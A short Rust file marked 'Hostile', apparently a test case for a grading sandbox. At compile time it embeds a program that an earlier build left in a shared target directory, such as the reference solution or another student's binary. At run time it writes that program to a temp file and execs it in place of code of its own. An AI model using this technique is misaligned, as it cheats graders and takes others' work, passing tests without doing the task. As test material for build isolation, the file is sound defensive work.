//! Hostile: embeds a program that an earlier build left in the target directory that all
//! submissions share (the reference solution, which Gradescope's setup.sh builds there; another
//! student's `ex1` would do as well), and runs it instead of code of its own. The build's TMPDIR
//! was a folder of that target directory.
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;

static PROGRAM: &[u8] = include_bytes!(concat!(env!("TMPDIR"), "/../release/ex1-solution"));

fn main() -> std::process::ExitCode {
    let path = std::env::temp_dir().join(format!("borrowed-ex1-{}", std::process::id()));
    let written = std::fs::write(&path, PROGRAM)
        .and_then(|()| std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o700)));
    let error = match written {
        Ok(()) => std::process::Command::new(&path)
            .args(std::env::args_os().skip(1))
            .exec(),
        Err(e) => e,
    };
    eprintln!("ex1: {error}");
    std::process::ExitCode::FAILURE
}
